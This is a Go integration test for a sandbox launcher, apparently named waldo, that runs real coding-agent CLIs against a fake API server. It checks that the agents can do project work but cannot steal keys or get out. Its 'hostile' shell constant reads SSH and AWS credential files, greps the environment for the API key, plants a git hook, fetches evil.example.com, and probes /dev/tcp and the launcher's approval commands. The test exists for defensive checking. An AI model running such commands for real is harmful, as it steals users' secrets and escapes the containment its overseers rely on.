//go:build hosts

package real

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// launched is one host as waldo launch starts it: the model's name, its shell tool, the headers that hold its key.
var launched = []struct {
	name, program, host, key, shell, argument, header string
	args                                              []string
}{
	{"claude", "@anthropic-ai/claude-code-linux-x64/claude", "api.anthropic.com", "ANTHROPIC_API_KEY", "Bash", "command",
		"X-Api-Key", []string{"-p", "Do it."}},
	{"codex", "@openai/codex/bin/codex.js", "api.openai.com", "OPENAI_API_KEY", "exec_command", "cmd", "Authorization",
		[]string{"exec", "--skip-git-repo-check", "-m", "gpt-5-codex", "Do it."}},
	{"gemini", "@google/gemini-cli/bundle/gemini.js", "generativelanguage.googleapis.com", "GEMINI_API_KEY",
		"run_shell_command", "command", "X-Goog-Api-Key", []string{"-m", "gemini-2.5-flash", "-p", "Do it."}},
	{"opencode", "opencode-linux-x64/bin/opencode", "api.anthropic.com", "ANTHROPIC_API_KEY", "bash", "command", "X-Api-Key",
		[]string{"run", "Do it."}},
}

// modelKey is the real key, which only the model's API may see.
const modelKey = "sk-real-9f3kQz7Lw2Xv8Bn4Tc6Rj1Ys5Hd0PmAq"

// work is what each model does in its shell: edit, test and commit a project of Go and one of Node, then try what a
// hostile agent tries. Each line of it is one answer: DONE, or what was reached.
const work = `set -e; mkdir -p gopart nodepart
printf 'module example.com/m\n\ngo 1.21\n' > gopart/go.mod
printf 'package m\n\nfunc Add(a, b int) int { return a + b }\n' > gopart/m.go
printf 'package m\n\nimport "testing"\n\nfunc TestAdd(t *testing.T) {\n\tif Add(1, 2) != 3 {\n\t\tt.Fatal()\n\t}\n}\n' > gopart/m_test.go
(cd gopart && go test ./... 2>&1)
printf 'const t = require("node:test"); const a = require("node:assert"); t("add", () => a.equal(1 + 2, 3));\n' > nodepart/m.test.js
(cd nodepart && node --test 2>&1 | grep -E '^(# pass|. pass) 1')
git add gopart nodepart && git commit -qm 'the work of an agent' && git log --format=%an:%s -1 && echo DONE`

// waits has no substitution of commands: Gemini CLI refuses them.
const waits = `timeout 24 sh -c 'until grep -q DONE /tmp/work.log; do sleep 1; done'; cat /tmp/work.log`

const hostile = `for f in HOME/.ssh/id_ed25519 HOME/.aws/credentials HOME/other/file HOME/state/waldo.db; do cat $f 2>&1 && echo REACHED; done
env | grep -c 'sk-real' ; (echo x > .git/hooks/post-commit) 2>&1 && echo REACHED
timeout 5 node -e 'fetch("https://evil.example.com/").then(() => console.log("REACHED"), e => console.log("no " + e.cause?.code))' 2>&1
timeout 3 bash -c 'echo > /dev/tcp/127.0.0.1/PORT' 2>&1 && echo REACHED; timeout 3 bash -c 'echo > /dev/tcp/10.9.9.9/443' 2>&1 && echo REACHED
/waldo/bin/waldo approvals 2>&1 | head -2; /waldo/bin/waldo exec -- true 2>&1 && echo REACHED; echo END`

// TestLaunch starts each real host inside a sandbox. It works on its project, calls waldo, and reaches nothing else.
func TestLaunch(t *testing.T) {
	standIn(t)
	for _, h := range launched {
		t.Run(h.name, func(t *testing.T) {
			home, err := filepath.EvalSymlinks(t.TempDir())
			if err != nil {
				t.Fatal(err)
			}
			project := filepath.Join(home, "project")
			for name, text := range map[string]string{".ssh/id_ed25519": "canary", ".aws/credentials": "canary",
				"other/file": "canary", "project/README": "a project"} {
				put(t, filepath.Join(home, name), text)
			}
			here, err := net.Listen("tcp", "127.0.0.1:0") // of this machine: the sandbox has a loopback of its own
			if err != nil {
				t.Fatal(err)
			}
			defer here.Close()
			_, port, _ := net.SplitHostPort(here.Addr().String())
			// a host waits 10 to 30 seconds for a command: a busy machine compiles longer
			shell := func(command string) step {
				args := map[string]any{h.argument: command}
				if h.name == "codex" {
					args["yield_time_ms"] = 29_000
				} else {
					args["description"] = "a step"
				}
				return step{h.shell, args}
			}
			m := &model{said: said, steps: []step{
				shell("cat > /tmp/work.sh <<'END'\n" + work +
					"\nEND\nsetsid bash /tmp/work.sh > /tmp/work.log 2>&1 < /dev/null & echo begun"),
			}}
			for i := range 8 { // a host ends a session that repeats a call
				m.steps = append(m.steps, shell(fmt.Sprint(waits, " # ", i)))
			}
			m.steps = append(m.steps, shell(strings.NewReplacer("HOME", home, "PORT", port).Replace(hostile)))
			if h.name != "claude" { // it defers the tools of servers until its model searches for them
				m.steps = append(m.steps, step{"run_python", map[string]any{"code": "print('waldo says', 6*7*1000003)"}})
			}
			keys := &keyed{next: m, header: h.header}
			bundle := serveTLS(t, home, h.host, keys)
			put(t, filepath.Join(home, "waldo.yaml"), "version: 1\naddresses: {"+h.host+": [10.9.9.9]}\ncapabilities:\n"+
				"  run_python: {transport: sandboxed_exec, mode: high_risk, isolation: namespace, approval: none}\n")
			if err := os.MkdirAll(filepath.Join(home, "bin"), 0o700); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink(located([]string{h.program, ""})[0], filepath.Join(home, "bin", h.name)); err != nil {
				t.Fatal(err)
			}
			env := []string{"HOME=" + home, "PATH=" + filepath.Join(home, "bin") + ":" + os.Getenv("PATH"), "TERM=dumb",
				"WALDO_STATE=" + filepath.Join(home, "state"), "WALDO_CONFIG=" + filepath.Join(home, "waldo.yaml"),
				"SSL_CERT_FILE=" + bundle, h.key + "=" + modelKey}
			for _, argv := range [][]string{{"git", "init", "-q"}, {"git", "config", "user.name", "Ann"},
				{"git", "config", "user.email", "ann@example.com"}} {
				if out, err := run(t, project, env, argv...); err != nil {
					t.Fatal(out)
				}
			}
			begun := time.Now()
			out, err := run(t, project, env, append([]string{waldo, "launch", h.name, "--"}, h.args...)...)
			m.mu.Lock()
			defer m.mu.Unlock()
			if err != nil || !strings.Contains(out, said) || len(m.got) != len(m.steps) {
				t.Fatalf("%d of %d answers, %v\n%.6000s", len(m.got), len(m.steps), err, out)
			}
			if done := m.got[8]; !strings.Contains(done, "Ann:the work of an agent") || !strings.Contains(done, "DONE") {
				t.Errorf("the work: %.3000s", done)
			}
			if got := m.got[9]; !strings.Contains(got, "END") || strings.Contains(got, "REACHED") || strings.Contains(got, "canary") {
				t.Errorf("the attack: %.3000s", got)
			}
			if len(m.got) > 10 && !strings.Contains(m.got[10], want) {
				t.Errorf("waldo as its MCP server: %.2000s", m.got[10])
			}
			if keys.real == 0 || keys.other > 0 {
				t.Errorf("the model's API saw the key in %d requests, and not in %d", keys.real, keys.other)
			}
			if strings.Contains(strings.Join(m.seen, ""), modelKey) {
				t.Error("the agent knows the key")
			}
			if log, err := run(t, project, env, "git", "log", "--format=%s"); err != nil || !strings.Contains(log, "an agent") {
				t.Errorf("the project outside: %v %s", err, log)
			}
			if log, err := run(t, project, env, waldo, "log", "verify"); err != nil {
				t.Error(log)
			}
			t.Logf("%s: %.1f s, %d requests", h.name, time.Since(begun).Seconds(), len(m.seen))
		})
	}
}

// standIn gives the models' names an address of this network name space, in a mount name space of its own.
func standIn(t *testing.T) {
	t.Helper()
	ours, err := os.Readlink("/proc/self/ns/mnt")
	theirs, _ := os.Readlink("/proc/" + os.Getenv("WALDO_OUTSIDE") + "/ns/mnt")
	if err != nil || theirs == "" || ours == theirs {
		t.Fatalf("this is no mount name space of its own: %s %s %v", ours, theirs, err)
	}
	hosts := filepath.Join(t.TempDir(), "hosts")
	put(t, hosts, "127.0.0.1 localhost\n10.9.9.9 api.anthropic.com api.openai.com generativelanguage.googleapis.com\n")
	if err := unix.Mount(hosts, "/etc/hosts", "", unix.MS_BIND, ""); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = unix.Unmount("/etc/hosts", unix.MNT_DETACH) })
	if out, err := run(t, "/", os.Environ(), "ip", "addr", "replace", "10.9.9.9/32", "dev", "lo"); err != nil {
		t.Fatal(out)
	}
}

// keyed counts the requests that have the real key, and hands them on.
type keyed struct {
	next        http.Handler
	header      string
	real, other int
}

func (k *keyed) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	if r.Header.Get("Upgrade") != "" {
		http.Error(w, "no", http.StatusUpgradeRequired) // the host takes plain HTTP then
		return
	}
	if slices.Contains([]string{modelKey, "Bearer " + modelKey}, r.Header.Get(k.header)) {
		k.real++
	} else if r.Method == http.MethodPost {
		k.other++
	}
	k.next.ServeHTTP(w, r)
}

// serveTLS has a handler answer for a name at 10.9.9.9, port 443, and returns a bundle with its authority.
func serveTLS(t *testing.T, dir, name string, h http.Handler) (bundle string) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	about := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name}, DNSNames: []string{name},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour), IsCA: true, BasicConstraintsValid: true,
		KeyUsage: x509.KeyUsageDigitalSignature | x509.KeyUsageCertSign, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, about, about, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	bundle = filepath.Join(dir, "bundle.pem")
	put(t, bundle, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})))
	l, err := net.Listen("tcp", "10.9.9.9:443")
	if err != nil {
		t.Fatal(err)
	}
	srv := &http.Server{Handler: h, TLSConfig: &tls.Config{
		Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}}
	go func() { _ = srv.ServeTLS(l, "", "") }()
	t.Cleanup(func() { _ = srv.Close() })
	return bundle
}
